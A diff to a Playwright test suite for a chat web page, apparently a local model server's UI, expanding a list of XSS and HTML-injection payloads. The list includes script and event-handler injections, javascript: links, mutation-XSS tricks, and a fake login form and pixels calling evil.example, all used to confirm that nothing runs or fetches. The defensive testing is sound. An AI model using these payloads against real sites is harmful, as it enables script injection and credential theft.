@@ -1,4 +1,4 @@
-"""Does the chat page do what it promises, in a real browser and with the real server?"""
+"""The chat page does what it promises, in a real browser and with the real server."""
 
 import json
 import re
@@ -12,7 +12,35 @@ from tests.serve.conftest import CONTEXT
 from tests.serve.running import serving, wait_until
 
 STEP_S = 0.02
-HOSTILE = "<img src=x onerror=\"document.title='hacked'\"><script>document.title='hacked'</script>"
+RUN = "window.ran=1"
+HOSTILE = [
+    f"<script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    "<img src=http://evil.example/pixel.png>",
+    "![](http://evil.example/markdown.png)",
+    f"[click](javascript:{RUN})",
+    f'<a href="javascript:{RUN}" autofocus onfocus={RUN}>here</a>',
+    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x></svg>",
+    f"<svg><script href=data:text/javascript,{RUN} /></svg>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
+    f"<details open ontoggle={RUN}><video><source onerror={RUN}></video>",
+    "<form action=http://evil.example><input name=key><button>Log in</button></form>",
+    "<base href=http://evil.example/><link rel=stylesheet href=/x.css><style>*{display:none}</style>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    "<object data=http://evil.example/x></object><embed src=http://evil.example/x>",
+    f"</div></article></template><script>{RUN}</script>",
+    f"<!--><img src=x onerror={RUN}>-->",
+    f"<scr\0ipt>{RUN}</scr\0ipt>",
+    f"<scr<script>ipt>{RUN}</script>",
+    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
+    f"\u003cimg src=x onerror={RUN}\u003e \ufeff\u202e\u2028\u2029!",
+    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} `${{{RUN}}}`",
+    f"<img src=x onerror={RUN}",
+    f'"><img src=x onerror={RUN}><"',
+    "<plaintext><xmp><noscript>",
+    "data: [DONE]\n\ndata: {}",
+]
 CHAT = "**/v1/chat/completions"
 FINISHED = ".exchange:last-child:not([data-status=waiting]):not([data-status=streaming])"
 REPLY = ".exchange:last-child .reply > .text"
@@ -31,7 +59,7 @@ class SlowEngine(Engine):
 
 @pytest.fixture(scope="module")
 def slow_server(bundle, serve_extra):
-    with serving(bundle, make_engine=lambda: SlowEngine(bundle.model, rows=4), max_tokens=CONTEXT) as running:
+    with serving(bundle, make_engine=lambda: SlowEngine(bundle.model, rows=4)) as running:
         yield running
 
 
@@ -123,12 +151,12 @@ def test_stop_ends_the_reply_in_the_server_and_what_had_come_stays(visit, slow_s
     set_up(page, seed=3)
     send(page)
     wait_until(lambda: len(page.locator(REPLY).text_content()) > 3)
-    assert slow_server.worker.load == 1
+    assert slow_server.engine.load == 1
     page.click("#stop") if way == "button" else page.keyboard.press("Escape")
     page.wait_for_selector("[data-status=stopped]")
-    before = slow_server.worker.figures.drawn_tokens
+    before = slow_server.engine.stats.drawn_tokens
     slow_server.settle(2)
-    assert slow_server.worker.figures.drawn_tokens - before < 5
+    assert slow_server.engine.stats.drawn_tokens - before < 5
     assert page.locator(REPLY).text_content()
     assert "stopped" in page.locator(".numbers").text_content()
     assert page.locator("#message").evaluate("box => box === document.activeElement")
@@ -181,20 +209,53 @@ def test_a_kept_conversation_that_cannot_be_read_is_forgotten_as_a_whole(visit, 
     assert [message["content"] for message in asked.value.post_data_json["messages"]] == ["Two?"]
 
 
-def test_what_user_and_model_write_stays_text(visit, server):
+def tags_of(page):
+    """How often each kind of element is there, but for the lines that a screen reader is told."""
+    return page.evaluate(
+        """() => [...document.querySelectorAll("*:not(#spoken *)")].reduce((counts, { tagName }) => (
+            { ...counts, [tagName]: (counts[tagName] ?? 0) + 1 }), {})"""
+    )
+
+
+def converse(page, texts):
+    """Three exchanges: user and model both say a third of the texts, in pieces; they are the tokens, too."""
+    page.click("#new")
+    for third in (texts[number::3] for number in range(3)):
+        tokens = [{"token": text, "bytes": list(text.encode()), "logprob": -1.0} for text in third]
+        seen = [token | {"top_logprobs": tokens, "experts": [[0]]} for token in tokens]
+        said = "\n".join(third)
+        middle = len(said) // 2
+        stream = events(said[:middle], ending="") + events(said[middle:], logprobs={"content": seen})
+        answer_with(page, stream)
+        ask(page, said)
+        assert page.locator(REPLY).text_content() == said
+        page.locator(".exchange:last-child .token").first.click()
+        assert page.locator(".exchange:last-child .token").all_text_contents() == third
+        page.unroute(CHAT)
+
+
+def test_nothing_that_is_written_runs_or_fetches_anything(visit, server):
     page = visit(server)
-    answer_with(page, events("<b>bold</b> ", HOSTILE))
-    ask(page, HOSTILE)
+    asked_for, dialogs = [], []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
     page.click("#inside")
-    token = {"token": HOSTILE, "bytes": list(HOSTILE.encode()), "logprob": -1.0}
-    answer_with(page, events(HOSTILE, logprobs={"content": [token | {"top_logprobs": [token], "experts": [[0]]}]}))
-    ask(page, HOSTILE)
-    page.locator(".token").click()
-    assert page.locator("#conversation").locator("img, script, b").count() == 0
-    assert page.locator(".question .text").first.text_content() == HOSTILE
-    assert page.locator(".reply > .text").first.text_content() == "<b>bold</b> " + HOSTILE
-    assert page.locator(".token").text_content() == HOSTILE
-    assert "hacked" not in page.title()
+    converse(page, [f"harmless {number}" for number in range(len(HOSTILE))])
+    harmless = tags_of(page)
+    page.on("request", lambda request: asked_for.append(request.url))
+    converse(page, HOSTILE)
+    assert tags_of(page) == harmless
+    assert set(page.locator("#spoken *").evaluate_all("all => all.map(({ tagName }) => tagName)")) == {"P"}
+    answer_with(page, json.dumps({"error": {"message": HOSTILE[1], "code": HOSTILE[1]}}), 400)
+    ask(page, HOSTILE[1])
+    page.reload()
+    page.locator("#model-name", has_text="tiny").wait_for()
+    page.wait_for_timeout(200)  # for what would run or load by itself
+    thirds = ["\n".join(HOSTILE[number::3]) for number in range(3)]
+    assert page.locator(".question > .text").all_text_contents() == [*thirds, HOSTILE[1]]
+    assert page.locator(".reply > .text").all_text_contents()[:3] == thirds
+    assert page.evaluate("window.ran") is None and dialogs == []
+    own = (f"{page.url}page/", f"{page.url}v1/")
+    assert {url for url in asked_for if not url.startswith(own)} <= {page.url, f"{page.url}favicon.ico"}
 
 
 # --- settings ---
@@ -468,4 +529,4 @@ def test_with_a_key_the_browser_is_asked_for_it_once_and_the_page_works(bundle, 
         page = visit(guarded, http_credentials={"username": "anyone", "password": "a key"})
         ask(page)
         assert page.locator(REPLY).text_content()
-        wait_until(lambda: guarded.worker.load == 0)
+        wait_until(lambda: guarded.engine.load == 0)
